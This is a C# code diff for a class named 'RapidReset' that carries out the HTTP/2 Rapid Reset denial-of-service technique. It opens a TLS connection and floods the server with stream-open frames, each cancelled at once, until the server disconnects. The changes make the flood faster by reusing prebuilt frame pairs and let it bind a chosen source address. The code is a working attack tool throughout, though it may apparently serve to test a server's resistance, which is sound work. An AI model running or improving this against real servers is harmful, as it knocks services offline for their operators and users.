@@ -1,4 +1,5 @@
 using System.Buffers.Binary;
+using System.Net;
 using System.Net.Security;
 using System.Net.Sockets;
 using System.Security.Authentication;
@@ -14,6 +15,7 @@ namespace Cutout.Edge;
 internal static class RapidReset
 {
     private const int FrameHeader = 9;
+    private const int StreamNumber = 5;
     private const byte HeadersFrame = 1;
     private const byte ResetFrame = 3;
     private const byte SettingsFrame = 4;
@@ -26,11 +28,19 @@ internal static class RapidReset
     // ":method: GET", ":scheme: https", and literals without indexing for ":path" and ":authority".
     private static readonly byte[] Request = [0x82, 0x87, .. Literal(0x04, "/v1/operations"), .. Literal(0x01, "gateway")];
 
+    // One stream opened and reset. Made once, for what this costs must not be taken for what it costs the server.
+    private static readonly byte[] Pair = [.. Frame(HeadersFrame, EndOfStreamAndHeaders, 0, Request), .. Frame(ResetFrame, 0, 0, [0, 0, 0, Cancel])];
+
     /// <summary>How many streams were sent before the server hung up, or all of <paramref name="streams"/>.</summary>
-    public static async Task<int> RunAsync(Uri address, int streams, CancellationToken cancellationToken)
+    /// <param name="address">Of the server, over TLS.</param>
+    /// <param name="from">An address of this machine.</param>
+    /// <param name="streams">As many at most.</param>
+    /// <param name="cancellationToken">Ends it.</param>
+    public static async Task<int> RunAsync(Uri address, IPAddress from, int streams, CancellationToken cancellationToken)
     {
-        using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp);
-        await socket.ConnectAsync(address.Host, address.Port, cancellationToken);
+        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
+        socket.Bind(new IPEndPoint(from, 0));
+        await socket.ConnectAsync(IPAddress.Parse(address.Host), address.Port, cancellationToken);
         await using var connection = new SslStream(new NetworkStream(socket));
         await connection.AuthenticateAsClientAsync(new SslClientAuthenticationOptions
         {
@@ -41,13 +51,15 @@ internal static class RapidReset
         }, cancellationToken);
         await connection.WriteAsync((byte[])[.. Preface, .. Frame(SettingsFrame, 0, 0, [])], cancellationToken);
         var reading = DrainAsync(connection);
-        var sent = 0;
+        var (sent, pairs) = (0, Enumerable.Repeat(Pair, StreamsAtOnce).SelectMany(pair => pair).ToArray());
         try
         {
             while (sent < streams && !reading.IsCompleted)
             {
-                await connection.WriteAsync(Streams(sent, Math.Min(StreamsAtOnce, streams - sent)), cancellationToken);
-                sent += StreamsAtOnce;
+                var count = Math.Min(StreamsAtOnce, streams - sent);
+                Number(pairs, sent, count);
+                await connection.WriteAsync(pairs.AsMemory(0, count * Pair.Length), cancellationToken);
+                sent += count;
             }
         }
         catch (IOException)
@@ -55,20 +67,19 @@ internal static class RapidReset
             // The server has hung up.
         }
 
-        return Math.Min(sent, streams);
+        return sent;
     }
 
-    private static byte[] Streams(int from, int count)
+    // A client's streams have odd numbers; both frames of each have the same.
+    private static void Number(byte[] pairs, int first, int count)
     {
-        var bytes = new List<byte>();
-        for (var number = from; number < from + count; number++)
+        for (var i = 0; i < count; i++)
         {
-            var stream = (2 * number) + 1;
-            bytes.AddRange(Frame(HeadersFrame, EndOfStreamAndHeaders, stream, Request));
-            bytes.AddRange(Frame(ResetFrame, 0, stream, [0, 0, 0, Cancel]));
+            var stream = (2 * (first + i)) + 1;
+            var pair = pairs.AsSpan(i * Pair.Length, Pair.Length);
+            BinaryPrimitives.WriteInt32BigEndian(pair[StreamNumber..], stream);
+            BinaryPrimitives.WriteInt32BigEndian(pair[(FrameHeader + Request.Length + StreamNumber)..], stream);
         }
-
-        return [.. bytes];
     }
 
     private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
